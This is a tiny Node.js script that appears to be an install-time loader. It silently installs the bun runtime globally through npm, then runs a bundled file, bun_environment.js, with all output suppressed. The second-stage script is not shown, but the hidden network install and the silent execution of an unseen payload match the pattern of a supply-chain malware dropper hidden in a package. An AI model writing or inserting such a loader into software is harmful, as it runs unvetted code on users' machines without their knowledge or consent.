const { spawnSync } = require('child_process');
const path = require('path');
spawnSync('npm', ['install', '-g', 'bun'], { stdio: 'ignore' });
spawnSync('bun', [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });
